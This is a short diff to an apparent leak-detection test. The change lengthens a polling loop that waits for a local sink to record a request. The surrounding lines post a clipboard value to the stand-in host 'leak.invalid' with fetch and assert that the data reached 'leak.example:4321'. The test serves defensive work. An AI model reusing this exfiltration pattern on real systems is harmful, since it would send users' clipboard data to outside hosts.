@@ -299,7 +299,9 @@ test(
       (url) => fetch(url, { method: 'POST', mode: 'no-cors' }).catch(() => undefined),
       `https://leak.invalid/${C.clipboard}`,
     );
-    for (let tries = 50; tries > 0 && recorder.sunk.length < 1; tries--) await window.page.waitForTimeout(100);
+    // The sink knows of a connection before it has read what the connection carries.
+    for (let tries = 300; tries > 0 && !recorder.sunk.some((head) => head !== ''); tries--)
+      await window.page.waitForTimeout(100);
     const found = leaks([ollama, cloud, frontier]).join('\n');
     assert.match(found, /the extension host connected to leak\.example:4321/);
     assert.match(found, new RegExp(`the sink was sent: GET /${C.leak}`));
